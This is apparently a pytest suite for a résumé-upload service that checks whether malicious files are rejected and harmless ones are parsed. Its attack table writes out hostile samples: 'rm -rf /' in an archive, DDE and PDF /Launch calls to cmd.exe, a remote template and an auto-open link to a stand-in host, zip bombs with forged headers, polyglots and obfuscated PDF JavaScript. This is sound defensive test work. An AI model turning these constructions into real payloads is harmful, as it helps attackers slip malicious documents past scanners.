"""Real documents are read, dangerous ones are recognised."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest

from resumatch.backend.config import Settings
from resumatch.backend.extraction import Extractor
from resumatch.backend.metrics import SUSPICIONS
from resumatch.backend.uploads import DocumentKind, SuspiciousFileError, UnreadableFileError
from resumatch.simulated_people import render_docx, render_pdf
from tests.resumatch.client import RESUME, Client

pytestmark = pytest.mark.anyio

PDF = "application/pdf"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def docx_with(*members: tuple[str, bytes], replace: dict[str, bytes] | None = None) -> bytes:
    """A genuine document with members added or replaced."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(render_docx(RESUME))) as original,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as changed,
    ):
        for name in original.namelist():
            changed.writestr(name, (replace or {}).get(name, original.read(name)))
        for name, content in members:
            changed.writestr(name, content)
    return file.getvalue()


def zip_of(content: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("evil.sh", content)
    return file.getvalue()


def docx_with_lying_size() -> bytes:
    """The directory says that a member of 20 MB has 10 bytes."""
    data = bytearray(docx_with(("word/media/big.bin", b"\0" * 20_000_000)))
    entry = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/media/big.bin"))
    data[entry + 24 : entry + 28] = struct.pack("<I", 10)
    return bytes(data)


def docx_with_overlapping_entries() -> bytes:
    """Two entries of the directory share one stretch of the file."""
    data = bytearray(docx_with(("word/a.bin", b"a" * 999), ("word/b.bin", b"b" * 999)))
    first = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/a.bin"))
    second = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/b.bin"))
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def pdf_with_hidden_script() -> bytes:
    """The script lies in an object stream, its name spelled with an escape."""
    inner = b"7 0 << /S /Java#53cript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(inner)
    stream = (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream"
    )
    whole = render_pdf(RESUME, extra_objects=(stream % (len(packed), packed),))
    # An object stream is only reached through a cross-reference stream.
    body = whole[: whole.rindex(b"xref\n0")]
    rows = b"".join(
        struct.pack(">BHB", 1, body.index(b"\n%d 0 obj" % number) + 1, 0) for number in range(1, 7)
    )
    rows = struct.pack(">BHB", 0, 0, 255) + rows + struct.pack(">BHB", 2, 6, 0)
    rows += struct.pack(">BHB", 1, len(body), 0)
    table = (
        b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 2 1] /Root 1 0 R /Length %d >>\nstream\n%b\n"
        b"endstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
    )
    return body + table % (len(rows), rows, len(body))


ATTACKS: dict[str, tuple[str, str, str, Callable[[], bytes]]] = {
    "EICAR in a text": ("eicar", "cv.txt", "text/plain", lambda: b"Hello " + EICAR),
    "EICAR in a picture": ("eicar", "cv.png", "image/png", lambda: EICAR),
    "EICAR in a document": ("eicar", "cv.docx", DOCX, lambda: docx_with(("word/x.txt", EICAR))),
    "program named PDF": ("wrong_magic_bytes", "cv.pdf", PDF, lambda: b"MZ\x90\0" + b"\0" * 99),
    "program named text": ("wrong_magic_bytes", "cv.txt", "text/plain", lambda: b"\x7fELF" * 9),
    "binary named text": ("wrong_magic_bytes", "cv.txt", "text/plain", lambda: bytes(range(256))),
    "script named text": ("wrong_magic_bytes", "cv.txt", "text/plain", lambda: b"#!/bin/sh\nrm"),
    "PDF named document": ("wrong_magic_bytes", "cv.docx", DOCX, lambda: render_pdf(RESUME)),
    "document named PDF": ("wrong_magic_bytes", "cv.pdf", PDF, lambda: render_docx(RESUME)),
    "name against type": ("wrong_magic_bytes", "cv.pdf", "text/html", lambda: render_pdf(RESUME)),
    "other archive": ("wrong_magic_bytes", "cv.docx", DOCX, lambda: zip_of(b"rm -rf /")),
    "docm": ("macros", "cv.docm", "application/octet-stream", lambda: render_docx(RESUME)),
    "macros": ("macros", "cv.docx", DOCX, lambda: docx_with(("word/vbaProject.bin", b"\xd0\xcf"))),
    "macro type": (
        "macros",
        "cv.docx",
        DOCX,
        lambda: docx_with(
            replace={"[Content_Types].xml": b"<Types>application/vnd.ms-word.macroEnabled</Types>"}
        ),
    ),
    "DDE": (
        "macros",
        "cv.docx",
        DOCX,
        lambda: docx_with(("word/f.xml", b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")),
    ),
    "embedded object": (
        "embedded_object",
        "cv.docx",
        DOCX,
        lambda: docx_with(("word/embeddings/oleObject1.bin", b"anything")),
    ),
    "embedded program": (
        "embedded_object",
        "cv.docx",
        DOCX,
        lambda: docx_with(("word/media/image1.png", b"MZ\x90")),
    ),
    "remote template": (
        "external_reference",
        "cv.docx",
        DOCX,
        lambda: docx_with(
            (
                "word/_rels/settings.xml.rels",
                b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
                b'officeDocument/2006/relationships/attachedTemplate" '
                b'Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>',
            )
        ),
    ),
    "entities": (
        "xml_entities",
        "cv.docx",
        DOCX,
        lambda: docx_with(("word/e.xml", b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>')),
    ),
    "entities in UTF-16": (
        "xml_entities",
        "cv.docx",
        DOCX,
        lambda: docx_with(("word/e.xml", "\ufeff<!DOCTYPE x []><x/>".encode("utf-16-le"))),
    ),
    "zip bomb": ("zip_bomb", "cv.docx", DOCX, lambda: docx_with(("word/b", b"\0" * 62_000_000))),
    "dense archive": (
        "zip_bomb",
        "cv.docx",
        DOCX,
        lambda: docx_with(("word/b", b"\0" * 9_000_000)),
    ),
    "lying size": ("zip_bomb", "cv.docx", DOCX, docx_with_lying_size),
    "overlapping entries": ("zip_bomb", "cv.docx", DOCX, docx_with_overlapping_entries),
    "nested archive": (
        "zip_bomb",
        "cv.docx",
        DOCX,
        lambda: docx_with(("word/media/image1.png", zip_of(b"x"))),
    ),
    "many entries": (
        "zip_bomb",
        "cv.docx",
        DOCX,
        lambda: docx_with(*((f"word/{number}", b"") for number in range(2_100))),
    ),
    "PDF after something": ("polyglot", "cv.pdf", PDF, lambda: b"GIF89a;" + render_pdf(RESUME)),
    "archive behind a PDF": ("polyglot", "cv.pdf", PDF, lambda: render_pdf(RESUME) + zip_of(b"x")),
    "program behind a PDF": ("polyglot", "cv.pdf", PDF, lambda: render_pdf(RESUME) + b"MZ\x90\0"),
    "page behind a PDF": (
        "polyglot",
        "cv.pdf",
        PDF,
        lambda: render_pdf(RESUME) + b"<html><script>alert(1)</script>",
    ),
    "archive behind a text": (
        "polyglot",
        "cv.txt",
        "text/plain",
        lambda: b"Hello\n" + zip_of(b"x"),
    ),
    "something behind an archive": (
        "polyglot",
        "cv.docx",
        DOCX,
        lambda: render_docx(RESUME) + b"#!/bin/sh\n",
    ),
    "script in a PDF": (
        "pdf_active_content",
        "cv.pdf",
        PDF,
        lambda: render_pdf(RESUME, extra_objects=(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",)),
    ),
    "hidden script in a PDF": ("pdf_active_content", "cv.pdf", PDF, pdf_with_hidden_script),
    "launch in a PDF": (
        "pdf_active_content",
        "cv.pdf",
        PDF,
        lambda: render_pdf(RESUME, extra_objects=(b"<< /S /Launch /F (cmd.exe) >>",)),
    ),
    "PDF that phones home": (
        "pdf_active_content",
        "cv.pdf",
        PDF,
        lambda: render_pdf(
            RESUME,
            catalog=b"/OpenAction 6 0 R",
            extra_objects=(b"<< /S /URI /URI (http://192.0.2.1/) >>",),
        ),
    ),
    "program in a PDF": (
        "embedded_object",
        "cv.pdf",
        PDF,
        lambda: render_pdf(
            RESUME,
            extra_objects=(b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\0\nendstream",),
        ),
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
async def test_an_attack_is_refused_and_counted(client: Client, name: str) -> None:
    reason, filename, content_type, build = ATTACKS[name]
    await client.register()

    answer = await client.upload(build(), filename, content_type)

    assert answer.status_code == 400, answer.text
    assert answer.json()["error"]["code"] == "suspicious_file"
    counted = await client.metrics()
    assert {
        each: counted[f'suspicious_file_uploads_total{{reason="{each}"}}'] for each in SUSPICIONS
    } == {each: float(each == reason) for each in SUSPICIONS}
    assert counted["resume_uploads_total"] == 0


TALKS_OF_SCRIPTS = RESUME + "\nSkills: TypeScript/JavaScript, /JS /Launch /OpenAction\n"
HARMLESS: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    "text": ("cv.txt", "text/plain", lambda: RESUME.encode()),
    "text of Windows": ("cv.TXT", "", lambda: ("Résumé — " + RESUME).encode("cp1252")),
    "text in UTF-16": ("cv.txt", "text/plain; charset=utf-16", lambda: RESUME.encode("utf-16")),
    "PDF": ("cv.pdf", PDF, lambda: render_pdf(RESUME)),
    "PDF that talks of scripts": ("cv.pdf", PDF, lambda: render_pdf(TALKS_OF_SCRIPTS)),
    "PDF that opens on its first page": (
        "cv.pdf",
        PDF,
        lambda: render_pdf(
            RESUME, catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> /Lang (/JavaScript)"
        ),
    ),
    "PDF with its data attached": (
        "cv.pdf",
        PDF,
        lambda: render_pdf(
            RESUME,
            extra_objects=(b"<< /Type /EmbeddedFile /Length 4 >>\nstream\n<a/>\nendstream",),
        ),
    ),
    "PDF with a link": (
        "cv.pdf",
        PDF,
        lambda: render_pdf(
            RESUME, extra_objects=(b"<< /Subtype /Link /A << /S /URI /URI (https://a.b) >> >>",)
        ),
    ),
    "document": ("My cv.docx", DOCX, lambda: render_docx(RESUME)),
    "document with a picture": (
        "cv.docx",
        "application/octet-stream",
        lambda: docx_with(("word/media/image1.png", b"\x89PNG\r\n" + b"\0" * 999)),
    ),
}


@pytest.mark.parametrize("name", HARMLESS)
async def test_a_plain_document_is_read(client: Client, name: str) -> None:
    filename, content_type, build = HARMLESS[name]
    await client.register()

    answer = await client.upload(build(), filename, content_type)

    assert answer.status_code == 201, answer.text
    analyzed = await client.analyze(answer.json()["resume_id"])
    matched = {each["skill"] for each in analyzed.json()["result"]["matched_skills"]}
    assert matched == {"Python", "PostgreSQL", "Docker"}


@pytest.mark.parametrize(
    ("filename", "content_type", "data", "status"),
    [
        ("cv.png", "image/png", b"\x89PNG", 415),
        ("cv", "text/plain", b"text", 415),
        ("cv.txt", "text/plain", b"", 422),
        ("cv.txt", "text/plain", b" \n ", 422),
        ("cv.pdf", PDF, b"%PDF-1.7\nthat is all", 422),
        ("cv.docx", DOCX, b"PK\x03\x04that is all", 422),
        ("cv.pdf", PDF, render_pdf(""), 422),
    ],
)
async def test_what_cannot_be_read_is_no_attack(
    client: Client, filename: str, content_type: str, data: bytes, status: int
) -> None:
    await client.register()

    answer = await client.upload(data, filename, content_type)

    assert answer.status_code == status, answer.text
    counted = await client.metrics()
    assert all(
        counted[f'suspicious_file_uploads_total{{reason="{each}"}}'] == 0 for each in SUSPICIONS
    )


def limited(**limits: float) -> Extractor:
    return Extractor(
        settings=Settings(
            database_url="",
            redis_url="",
            secret_key="",
            extraction_timeout_seconds=limits.get("seconds", 10),
            extraction_memory_bytes=int(limits.get("memory", 512 * 1024 * 1024)),
        )
    )


async def test_a_document_that_inflates_without_end_stays_within_its_limits() -> None:
    stages = b"/FlateDecode /FlateDecode"
    packed = zlib.compress(zlib.compress(b"0 " * 45_000_000, 9), 9)
    stream = b"<< /Filter [%b] /Length %d >>\nstream\n%b\nendstream" % (stages, len(packed), packed)
    data = render_pdf("x", extra_objects=(stream,)).replace(b"/Contents 4 0 R", b"/Contents 6 0 R")

    with pytest.raises(SuspiciousFileError) as caught:
        await limited().extract(DocumentKind.PDF, data)

    assert caught.value.reason == "resource_exhaustion"


async def test_a_reader_that_hangs_is_killed() -> None:
    with pytest.raises(SuspiciousFileError) as caught:
        await limited(seconds=0.05).extract(DocumentKind.PDF, render_pdf(RESUME))

    assert caught.value.reason == "resource_exhaustion"


async def test_a_reader_without_memory_does_no_harm() -> None:
    with pytest.raises((SuspiciousFileError, UnreadableFileError)):
        await limited(memory=1024 * 1024).extract(DocumentKind.DOCX, render_docx(RESUME))
